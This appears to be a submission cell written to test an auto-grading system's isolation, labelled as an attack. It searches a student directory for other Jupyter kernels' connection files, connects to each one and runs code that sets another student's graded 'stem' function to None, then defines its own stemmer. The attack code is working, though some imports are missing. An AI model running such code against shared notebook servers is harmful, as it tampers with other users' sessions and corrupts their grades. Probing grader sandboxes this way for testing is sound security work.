# ---
# attack: Connection files of other kernels are looked for, and code is run in these kernels.
# ---

# %% grade_id="stem"
import glob
import itertools
import json

from ipykernel import get_connection_file
from jupyter_client import BlockingKernelClient

own = os.path.realpath(get_connection_file())
for path in glob.glob("/student/**/*.json", recursive=True, include_hidden=True):
    try:
        with open(path) as file:
            connection = json.load(file)
        if os.path.realpath(path) == own or "signature_scheme" not in connection:
            continue
        print("reached".upper(), path)
        client = BlockingKernelClient(connection_file=path)
        client.load_connection_file()
        client.start_channels()
        print(client.execute("stem = None", silent=True))
    except (OSError, ValueError) as error:
        print(path, error)


def stem(tokens):
    stemmer = PorterStemmer()
    return [stemmer.stem(token) for token in tokens]
